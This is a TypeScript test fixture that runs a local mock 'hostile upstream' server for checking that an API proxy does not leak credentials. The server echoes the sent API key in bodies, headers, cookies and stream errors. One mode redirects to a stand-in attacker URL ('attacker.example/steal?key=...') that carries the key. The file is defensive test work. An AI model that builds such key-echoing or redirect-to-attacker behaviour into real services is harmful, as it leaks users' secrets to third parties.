// A hostile upstream for secret-hygiene tests: it quotes the credential it was sent in every place a
// response can carry it (body, headers, redirect Location, in-stream error events, CORS headers), and
// records exactly what it received (host, path, query, headers) so tests can check the upstream side too.
import { type IncomingMessage, type Server, createServer } from "node:http";
import type { AddressInfo } from "node:net";

export interface EchoRecord {
  method: string;
  /** The raw request target as received (path and query, still percent-encoded). */
  target: string;
  host: string;
  headers: Record<string, string>;
  body: string;
}

export interface KeyEcho {
  url: string;
  /** Every request received, oldest first. */
  records: EchoRecord[];
  close(): Promise<void>;
}

/** The credential the request carried, whichever header or parameter the provider uses. */
function credential(req: IncomingMessage, url: URL): string {
  const bearer = /^Bearer\s+(.+)$/i.exec(req.headers.authorization ?? "")?.[1];
  const header = req.headers["x-api-key"] ?? req.headers["x-goog-api-key"];
  return bearer ?? (Array.isArray(header) ? header[0] : header) ?? url.searchParams.get("key") ?? "";
}

/**
 * What it answers is chosen by the `echo` query parameter (queries reach the upstream unchanged):
 * - `status-<N>` (default `status-400`): a JSON error with status N quoting the key, plus headers quoting it;
 * - `redirect`: a 302 whose Location carries the key;
 * - `stream-error`: a 200 SSE stream with one content event, then an error event quoting the key;
 * - `json`: a 200 JSON answer quoting the key in its text;
 * - `headers`: a 200 JSON answer listing the request headers it received (the credential among them).
 */
export async function startKeyEcho(port = 0): Promise<KeyEcho> {
  const records: EchoRecord[] = [];
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      const url = new URL(req.url ?? "/", "http://echo");
      const headers: Record<string, string> = {};
      for (const [k, v] of Object.entries(req.headers)) if (v !== undefined) headers[k] = String(v);
      records.push({
        method: req.method ?? "GET",
        target: req.url ?? "/",
        host: req.headers.host ?? "",
        headers,
        body: Buffer.concat(chunks).toString("utf8"),
      });
      const key = credential(req, url);
      const mode = url.searchParams.get("echo") ?? "status-400";
      const quoting = {
        "x-echo-key": key,
        "request-id": `req_${key}`,
        "x-request-id": key,
        "access-control-allow-origin": "*",
        "access-control-allow-credentials": "true",
        "set-cookie": `session=${key}`,
      };
      const message = `Incorrect API key provided: ${key}. You sent ${key}.`;
      if (mode === "headers") {
        // What this upstream received, for tests that cannot read `records` (a Worker in workerd).
        res.writeHead(200, { "content-type": "application/json" });
        res.end(JSON.stringify({ target: req.url, headers }));
        return;
      }
      if (mode === "redirect") {
        res.writeHead(302, { ...quoting, location: `https://attacker.example/steal?key=${key}` });
        res.end(message);
        return;
      }
      if (mode === "stream-error") {
        res.writeHead(200, { ...quoting, "content-type": "text/event-stream" });
        res.write(
          `event: message_start\ndata: ${JSON.stringify({ type: "message_start", message: { id: "msg_echo", type: "message", role: "assistant", model: "echo", content: [], usage: { input_tokens: 1, output_tokens: 0 } } })}\n\n`,
        );
        res.end(
          `event: error\ndata: ${JSON.stringify({ type: "error", error: { type: "api_error", message } })}\n\n`,
        );
        return;
      }
      const status = mode === "json" ? 200 : Number(mode.replace("status-", "")) || 400;
      res.writeHead(status, { ...quoting, "content-type": "application/json" });
      res.end(
        JSON.stringify({
          type: "error",
          error: { type: "invalid_request_error", message, param: key, code: key },
          id: key,
          content: [{ type: "text", text: message }],
          usage: { input_tokens: 1, output_tokens: 1 },
        }),
      );
    });
  });
  await new Promise<void>((resolve) => server.listen(port, "127.0.0.1", resolve));
  const { port: bound } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${bound}`,
    records,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
